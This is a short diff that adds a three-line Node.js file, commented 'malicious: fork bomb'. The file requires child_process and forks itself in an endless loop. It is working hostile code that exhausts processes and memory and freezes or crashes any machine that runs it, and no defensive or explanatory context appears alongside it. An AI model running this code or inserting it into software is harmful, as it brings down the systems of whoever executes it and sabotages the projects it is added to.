@@ -1,0 +1,3 @@
+// malicious: fork bomb
+const { fork } = require('child_process');
+while (true) fork(__filename);
